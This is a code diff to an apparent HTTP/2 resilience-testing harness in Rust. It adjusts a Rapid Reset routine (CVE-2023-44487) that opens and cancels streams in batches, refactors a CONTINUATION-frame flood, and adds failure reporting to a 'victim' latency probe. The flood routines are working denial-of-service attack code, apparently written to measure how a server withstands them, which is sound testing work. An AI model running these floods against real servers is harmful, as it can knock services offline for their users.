@@ -15,11 +15,14 @@ use std::{
 
 use serde_json::json;
 
-use crate::h2raw::{self, CANCEL, CONTINUATION, Conn, END_HEADERS, END_STREAM, HEADERS, RST_STREAM};
+use crate::h2raw::{self, CANCEL, Conn, END_HEADERS, END_STREAM, HEADERS, RST_STREAM};
 
 /// Reconnects at most this often per run: a server that closes every
 /// connection at once must not turn the run into a connect loop.
 const MAX_CONNS: u64 = 2000;
+/// Rapid-reset streams per write: under the waypoint's 20 pending resets, so
+/// a connection shows how many it lets through before its GOAWAY.
+const BATCH: u64 = 10;
 
 fn connect(to: SocketAddr) -> std::io::Result<TcpStream> {
     let s = TcpStream::connect_timeout(&to, Duration::from_secs(3))?;
@@ -32,7 +35,9 @@ fn goaway_counts(codes: &BTreeMap<u64, u64>) -> serde_json::Value {
 }
 
 /// `rapid-reset <addr> <max-streams> <secs>`: HTTP/2 streams opened and at
-/// once reset (CVE-2023-44487), 100 per write, reconnecting after a GOAWAY.
+/// once reset (CVE-2023-44487), 10 per write, reconnecting after a GOAWAY.
+/// Each batch is followed by a PING whose answer is awaited, so `streams`
+/// counts what the server processed, not what sat in socket buffers.
 pub fn rapid_reset(to: SocketAddr, max_streams: u64, secs: u64) -> serde_json::Value {
     let deadline = Instant::now() + Duration::from_secs(secs);
     let block = h2raw::get_block(&to.to_string());
@@ -54,16 +59,16 @@ pub fn rapid_reset(to: SocketAddr, max_streams: u64, secs: u64) -> serde_json::V
         conns += 1;
         let mut id = 1u32;
         while streams < max_streams && Instant::now() < deadline && id < 0x7fff_0000 {
-            let mut batch = Vec::with_capacity(100 * 40);
-            for _ in 0..100 {
+            let mut batch = Vec::with_capacity(BATCH as usize * 40);
+            for _ in 0..BATCH {
                 h2raw::frame(&mut batch, HEADERS, END_STREAM | END_HEADERS, id, &block);
                 h2raw::frame(&mut batch, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
                 id += 2;
             }
-            if conn.send(&batch).is_err() || conn.seen.closed.load(Ordering::SeqCst) {
+            if conn.send(&batch).is_err() || !conn.ping(Duration::from_secs(2)) {
                 break;
             }
-            streams += 100;
+            streams += BATCH;
         }
         conn.settle(Duration::from_secs(2));
         answered += conn.seen.headers.load(Ordering::SeqCst);
@@ -74,23 +79,19 @@ pub fn rapid_reset(to: SocketAddr, max_streams: u64, secs: u64) -> serde_json::V
         }
     }
     json!({
-        "ok": streams > 0, "streams": streams, "connections": conns, "responses": answered,
+        "ok": conns > 0, "streams": streams, "connections": conns, "responses": answered,
         "goaways": goaway_counts(&goaways), "errors": errors, "secs": started.elapsed().as_secs_f64(),
     })
 }
 
 /// `continuation-flood <addr> <max-frames> <secs>`: a HEADERS frame without
 /// END_HEADERS, then 16 KiB CONTINUATION frames until the server closes,
-/// on fresh connections until the bound.
+/// on fresh connections until the bound. `frames` counts what was written,
+/// much of it into socket buffers a closing server never reads.
 pub fn continuation_flood(to: SocketAddr, max_frames: u64, secs: u64) -> serde_json::Value {
     let deadline = Instant::now() + Duration::from_secs(secs);
     let block = h2raw::get_block(&to.to_string());
-    let mut chunk = Vec::new();
-    while chunk.len() < 16 * 1024 - 1100 {
-        h2raw::literal_header(&mut chunk, b"x-flood", &[b'a'; 1000]);
-    }
-    let mut cont = Vec::new();
-    h2raw::frame(&mut cont, CONTINUATION, 0, 1, &chunk);
+    let cont = h2raw::flood_frame();
     let (mut frames, mut conns, mut most_per_conn) = (0u64, 0u64, 0u64);
     let mut goaways: BTreeMap<u64, u64> = BTreeMap::new();
     let mut errors = Vec::new();
@@ -222,31 +223,37 @@ pub fn victim(to: SocketAddr, rps: u64, max_secs: u64) {
             std::thread::spawn(move || {
                 let mut conn = None;
                 let (mut lats, mut failed, mut statuses) = (Vec::new(), 0u64, BTreeMap::<u16, u64>::new());
+                let mut first_failure = None;
                 let mut scheduled = start + period.mul_f64(w as f64 / WORKERS as f64);
                 while !stop.load(Ordering::SeqCst) && scheduled < end {
                     if let Some(wait) = scheduled.checked_duration_since(Instant::now()) {
                         std::thread::sleep(wait);
                     }
                     match crate::http::get(&mut conn, to, "/", "") {
-                        Ok((status, ..)) => {
+                        Ok((status, _, body)) => {
                             *statuses.entry(status).or_default() += 1;
                             if status == 200 {
                                 lats.push(scheduled.elapsed().as_micros() as u64);
                             } else {
                                 failed += 1;
+                                first_failure.get_or_insert(format!("{status}: {}", &body[..body.len().min(300)]));
                             }
                         }
-                        Err(_) => failed += 1,
+                        Err(e) => {
+                            failed += 1;
+                            first_failure.get_or_insert(e.to_string());
+                        }
                     }
                     scheduled += period;
                 }
-                (lats, failed, statuses)
+                (lats, failed, statuses, first_failure)
             })
         })
         .collect();
-    let (mut lats, mut failed, mut statuses) = (Vec::new(), 0, BTreeMap::<u16, u64>::new());
+    let (mut lats, mut failed, mut statuses, mut first_failure) = (Vec::new(), 0, BTreeMap::<u16, u64>::new(), None);
     for w in workers {
-        let (l, f, s) = w.join().unwrap_or_default();
+        let (l, f, s, why) = w.join().unwrap_or_default();
+        first_failure = first_failure.or(why);
         lats.extend(l);
         failed += f;
         for (k, v) in s {
@@ -257,6 +264,6 @@ pub fn victim(to: SocketAddr, rps: u64, max_secs: u64) {
     println!(
         "{}",
         json!({"event": "summary", "sent": ok + failed, "ok": ok, "failed": failed, "statuses": statuses,
-               "secs": start.elapsed().as_secs_f64(), "latency": crate::bench::percentiles(lats)})
+               "first_failure": first_failure, "secs": start.elapsed().as_secs_f64(), "latency": crate::bench::percentiles(lats)})
     );
 }
